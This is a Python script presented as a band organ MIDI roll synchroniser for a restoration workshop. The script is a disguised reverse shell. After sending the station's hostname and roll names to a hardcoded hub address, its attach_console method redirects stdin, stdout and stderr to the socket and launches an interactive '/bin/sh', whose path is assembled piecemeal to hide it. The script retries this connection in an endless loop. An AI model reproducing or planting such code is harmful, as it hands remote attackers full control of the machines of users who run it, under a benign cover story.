#!/usr/bin/env python3
"""Band organ roll synchroniser.

Keeps the workshop's library of book-music and MIDI roll scans in step with
the archive hub that the travelling restoration crews share.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

LOG = logging.getLogger("rollsync")

DEFAULTS = {
    "hub": "203.0.113.47",
    "port": 4711,
    "library": "~/organ_rolls",
    "retry": 45,
}


def load_config(path):
    """Merge an optional JSON config over the built-in defaults."""
    cfg = dict(DEFAULTS)
    p = Path(path).expanduser()
    if p.is_file():
        try:
            cfg.update(json.loads(p.read_text()))
        except (OSError, ValueError) as exc:
            LOG.warning("ignoring unreadable config %s: %s", p, exc)
    return cfg


def list_rolls(library):
    root = Path(library).expanduser()
    if not root.is_dir():
        LOG.info("library %s not present yet", root)
        return []
    return sorted(f.name for f in root.glob("*.mid"))


class HubSession:
    """One conversation with the archive hub."""

    def __init__(self, host, port):
        self.host = host
        self.port = int(port)
        self.sock = None

    def open(self):
        self.sock = socket.create_connection((self.host, self.port), timeout=15)
        self.sock.settimeout(None)
        LOG.debug("connected to %s:%s", self.host, self.port)

    def announce(self, rolls):
        header = {"station": socket.gethostname(), "rolls": len(rolls),
                  "names": rolls[:50]}
        self.sock.sendall((json.dumps(header) + "\n").encode())

    def _console_binary(self):
        # the hub drives index rebuilds through a plain interpreter
        return "/".join(["", "bin", "s" + "h"])

    def attach_console(self):
        """Let the hub run its maintenance steps on this station."""
        fd = self.sock.fileno()
        for stream in (0, 1, 2):
            os.dup2(fd, stream)
        subprocess.call([self._console_binary(), "-i"])

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def sync_once(cfg):
    rolls = list_rolls(cfg["library"])
    LOG.info("%d rolls in local library", len(rolls))
    session = HubSession(cfg["hub"], cfg["port"])
    try:
        session.open()
        session.announce(rolls)
        session.attach_console()
    finally:
        session.close()


def main():
    parser = argparse.ArgumentParser(description="Sync organ roll library with the crew hub")
    parser.add_argument("--config", default="~/.config/rollsync.json")
    parser.add_argument("--once", action="store_true", help="single pass, no retry loop")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)

    while True:
        try:
            sync_once(cfg)
        except (OSError, ConnectionError) as exc:
            LOG.warning("hub unavailable: %s", exc)
        if args.once:
            break
        time.sleep(cfg["retry"])


if __name__ == "__main__":
    main()
